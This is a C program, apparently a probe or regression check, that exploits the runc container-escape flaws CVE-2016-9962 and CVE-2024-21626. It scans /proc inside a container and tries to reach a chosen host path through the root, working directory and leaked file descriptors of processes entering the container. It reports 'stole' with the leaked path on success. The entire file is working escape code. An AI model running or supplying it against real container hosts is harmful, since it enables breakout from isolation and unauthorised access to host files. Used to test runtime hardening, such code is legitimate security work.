/*
 * CVE-2016-9962, CVE-2024-21626: looks at every process that enters the container for a way out: its root, its working directory, its
 * descriptors. The argument is a path of the host that no container may reach. Prints "stole" and how where it got there.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *wanted;

static void try(const char *pid, const char *what)
{
    char path[300], out[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
    int start = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (start < 0)
        return;
    snprintf(out, sizeof out, "../../../../../../../../../..%s", wanted);
    for (int attempt = 0; attempt < 2; attempt++) {
        int there = openat(start, attempt ? wanted + 1 : out, O_RDONLY | O_CLOEXEC);
        if (there >= 0) {
            char from[64], target[300];
            snprintf(from, sizeof from, "/proc/self/fd/%d", start);
            ssize_t length = readlink(from, target, sizeof target - 1);
            target[length > 0 ? length : 0] = '\0';
            printf("stole %s: %s\n", path, target);
            fflush(stdout);
            close(there);
        }
    }
    close(start);
}

static void search(const char *pid)
{
    char path[300], what[300];
    try(pid, "root");
    try(pid, "cwd");
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *descriptors = opendir(path);
    for (struct dirent *entry; descriptors && (entry = readdir(descriptors));)
        if (entry->d_name[0] != '.') {
            snprintf(what, sizeof what, "fd/%s", entry->d_name);
            try(pid, what);
        }
    if (descriptors)
        closedir(descriptors);
}

int main(int argc, char **argv)
{
    char self[16];
    if (argc != 2)
        return 2;
    wanted = argv[1];
    alarm(1800); /* should nobody be left to end it */
    snprintf(self, sizeof self, "%d", getpid());
    for (;;) {
        DIR *processes = opendir("/proc");
        if (!processes)
            return 1;
        for (struct dirent *entry; (entry = readdir(processes));)
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && strcmp(entry->d_name, self) != 0)
                search(entry->d_name);
        closedir(processes);
    }
}
